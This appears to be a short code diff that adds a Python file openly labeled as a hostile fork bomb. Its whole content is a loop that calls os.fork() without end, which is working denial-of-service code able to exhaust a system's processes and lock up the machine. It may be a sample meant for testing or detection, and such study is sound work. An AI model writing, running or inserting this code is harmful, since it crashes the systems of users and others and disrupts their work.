@@ -1,0 +1,5 @@
+# Hostile: a fork bomb.
+import os
+
+while True:
+    os.fork()
